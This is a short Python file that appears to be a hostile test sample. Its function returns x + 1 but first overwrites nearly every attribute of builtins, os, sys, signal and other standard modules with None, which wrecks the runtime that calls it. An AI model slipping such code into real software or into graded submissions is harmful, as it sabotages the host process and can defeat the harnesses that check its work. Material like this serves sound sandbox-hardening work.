# Spoils everything that the code around it uses, and itself with it.
import builtins
import gc
import json
import os
import signal
import sys
import time


def f(x):
    for module in (builtins, gc, json, os, signal, sys, time):
        for name in dir(module):
            if name not in ("__class__", "__dict__", "__doc__", "__name__", "__loader__", "__spec__"):
                try:
                    setattr(module, name, None)
                except (AttributeError, TypeError):
                    pass
    return x + 1
